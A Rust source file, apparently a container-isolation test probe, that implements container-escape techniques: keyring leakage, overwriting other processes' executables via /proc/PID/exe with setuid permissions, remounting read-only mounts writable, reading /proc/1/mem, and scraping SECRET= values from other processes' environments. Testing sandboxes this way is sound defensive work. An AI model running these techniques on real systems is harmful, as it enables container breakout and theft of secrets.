//! What attacks do inside a container that busybox cannot.
//!
//! | command | what it does |
//! |---|---|
//! | `keep-key TEXT PROGRAM ARG…` | executes the program with a key in its session keyring |
//! | `find-key` | prints that key |
//! | `take-files` | changes and writes the program file of every process that comes in |
//! | `take-files remounting` | the same, and makes the mounts that they are on writable first |
//! | `search-memory` | looks for the words `annotated` and `secret`, with `-` between, in process 1 |
//! | `look-around PATH` | tells of processes that have more rights than this one, of `PATH` below their root, and of a secret in their environment |

#![expect(unsafe_code, reason = "system calls without a safe wrapper")]
#![expect(clippy::print_stdout, reason = "this is what it is for")]

use std::collections::BTreeSet;
use std::ffi::{CString, c_long};
use std::fs::{self, File, OpenOptions, Permissions};
use std::io::{self, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{FileExt as _, MetadataExt as _, PermissionsExt as _};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Command, ExitCode};

const SESSION: c_long = libc::KEY_SPEC_SESSION_KEYRING as c_long;
const KEY: &[u8] = b"cais-attack\0";
const KIND: &[u8] = b"user\0";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let result = match args.as_slice() {
        ["keep-key", text, program, args @ ..] => keep_key(text, program, args),
        ["find-key"] => find_key(),
        ["take-files"] => take_files(false),
        ["take-files", "remounting"] => take_files(true),
        ["search-memory"] => search_memory(),
        ["look-around", path] => look_around(Path::new(path)),
        _ => Err(io::Error::from(io::ErrorKind::InvalidInput)),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            println!("attack-inside: {error}");
            ExitCode::FAILURE
        }
    }
}

/// Prints a line at once.
fn say(text: &str) {
    println!("{text}");
    let _ = io::stdout().flush();
}

fn check(answer: c_long) -> io::Result<c_long> {
    if answer < 0 { Err(io::Error::last_os_error()) } else { Ok(answer) }
}

fn keep_key(text: &str, program: &str, args: &[&str]) -> io::Result<()> {
    let text = CString::new(text)?;
    // SAFETY: a null name asks for an anonymous keyring.
    check(unsafe { libc::syscall(libc::SYS_keyctl, libc::KEYCTL_JOIN_SESSION_KEYRING, 0) })?;
    // SAFETY: the strings end in a null character, and the length is that of the text.
    check(unsafe {
        let length = text.as_bytes().len();
        libc::syscall(
            libc::SYS_add_key,
            KIND.as_ptr(),
            KEY.as_ptr(),
            text.as_ptr(),
            length,
            SESSION,
        )
    })?;
    Err(Command::new(program).args(args).exec())
}

fn find_key() -> io::Result<()> {
    // SAFETY: the strings end in a null character.
    let key = check(unsafe {
        let search = libc::KEYCTL_SEARCH;
        libc::syscall(libc::SYS_keyctl, search, SESSION, KIND.as_ptr(), KEY.as_ptr(), 0)
    })?;
    let mut text = [0_u8; 256];
    // SAFETY: the length is that of the buffer.
    let length = check(unsafe {
        let read = libc::KEYCTL_READ;
        libc::syscall(libc::SYS_keyctl, read, key, text.as_mut_ptr(), text.len())
    })?;
    let length = usize::try_from(length).unwrap_or(0).min(text.len());
    say(&String::from_utf8_lossy(&text[..length]));
    Ok(())
}

/// The numbers of all processes but this one.
fn others() -> Vec<u32> {
    let own = std::process::id();
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    let numbers = entries.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok());
    numbers.filter(|&number| number != own).collect()
}

fn take_files(remounting: bool) -> io::Result<()> {
    let own = fs::metadata("/proc/self/exe")?;
    let mut taken: Vec<File> = Vec::new();
    let mut known = BTreeSet::from([(own.dev(), own.ino())]);
    say("ready");
    loop {
        for number in others() {
            let path = format!("/proc/{number}/exe");
            let _ = fs::set_permissions(&path, Permissions::from_mode(0o4777));
            let Ok(file) = File::open(&path) else { continue };
            let meta = file.metadata()?;
            if known.insert((meta.dev(), meta.ino())) {
                say(&format!("took {}", fs::read_link(&path).unwrap_or_default().display()));
                taken.push(file);
            }
        }
        for file in &taken {
            if remounting {
                make_writable(file);
            }
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let _ = fs::set_permissions(&path, Permissions::from_mode(0o4777));
            // While it runs, it cannot be written.
            if let Ok(mut file) = OpenOptions::new().append(true).open(&path) {
                let _ = file.write_all(b"#owned\n");
            }
        }
    }
}

/// Tries to make the mount that a file was opened on writable, or a copy of it, and changes the mode
/// of the file there.
fn make_writable(file: &File) {
    let attr = libc::mount_attr {
        attr_set: 0,
        attr_clr: libc::MOUNT_ATTR_RDONLY,
        propagation: 0,
        userns_fd: 0,
    };
    let set = |mount: c_long| {
        let (attr, size) = (&raw const attr, size_of::<libc::mount_attr>());
        let (number, empty) = (libc::SYS_mount_setattr, c"".as_ptr());
        // SAFETY: the string and the structure live across the call.
        unsafe { libc::syscall(number, mount, empty, libc::AT_EMPTY_PATH, attr, size) }
    };
    let number = file.as_raw_fd();
    set(number.into());
    let path = CString::new(format!("/proc/self/fd/{number}")).unwrap_or_default();
    let nothing = std::ptr::null::<libc::c_char>();
    for flags in [libc::MS_REMOUNT | libc::MS_BIND, libc::MS_REMOUNT] {
        // SAFETY: the string lives across the call, which ignores what is null.
        unsafe { libc::mount(nothing, path.as_ptr(), nothing, flags, nothing.cast()) };
    }
    let flags = libc::OPEN_TREE_CLONE | libc::AT_EMPTY_PATH as libc::c_uint;
    // SAFETY: the string lives across the call.
    let copy = unsafe { libc::syscall(libc::SYS_open_tree, number, c"".as_ptr(), flags) };
    if copy >= 0 {
        set(copy);
        let path = format!("/proc/self/fd/{copy}");
        let _ = fs::set_permissions(path, Permissions::from_mode(0o4777));
    }
}

/// Whether what can be written in the memory of process 1 has the words.
fn search_memory() -> io::Result<()> {
    let word = ["annotated", "secret"].join("-");
    let maps = fs::read_to_string("/proc/1/maps")?;
    let memory = File::open("/proc/1/mem")?;
    for line in maps.lines().filter(|line| line.contains(" rw")) {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let number = |text| u64::from_str_radix(text, 16).unwrap_or(0);
        let Some((start, end)) = range.map(|(a, b)| (number(a), number(b))) else { continue };
        let mut bytes = vec![0; usize::try_from(end - start).unwrap_or(0)];
        let length = memory.read_at(&mut bytes, start).unwrap_or(0);
        if bytes[..length].windows(word.len()).any(|window| window == word.as_bytes()) {
            let at =
                bytes[..length].windows(word.len()).position(|w| w == word.as_bytes()).unwrap_or(0);
            say(&format!("found it at {at:#x} in {line}"));
        }
    }
    say("searched");
    Ok(())
}

fn effective(status: &str) -> u64 {
    let line = status.lines().find_map(|line| line.strip_prefix("CapEff:"));
    line.and_then(|text| u64::from_str_radix(text.trim(), 16).ok()).unwrap_or(0)
}

fn look_around(path: &Path) -> io::Result<()> {
    let own = effective(&fs::read_to_string("/proc/self/status")?);
    let below_root = path.strip_prefix("/").unwrap_or(path);
    let mut said = BTreeSet::new();
    let mut find = |what: String| {
        if said.insert(what.clone()) {
            say(&what);
        }
    };
    say("ready");
    loop {
        for number in others() {
            let status = fs::read_to_string(format!("/proc/{number}/status")).unwrap_or_default();
            if effective(&status) & !own != 0 {
                find("more rights".into());
            }
            if status.contains("Seccomp:\t0") {
                find("no filter".into());
            }
            let place = Path::new("/proc").join(number.to_string());
            if let Ok(text) = fs::read_to_string(place.join("root").join(below_root)) {
                find(format!("its root: {text}"));
            }
            for file in ["environ", "cmdline"] {
                let text = fs::read(place.join(file)).unwrap_or_default();
                let text = String::from_utf8_lossy(&text);
                if let Some((_, secret)) = text.split_once("SECRET=") {
                    let secret = secret.split('\0').next().unwrap_or_default();
                    find(format!("its {file}: {secret}"));
                }
            }
        }
    }
}
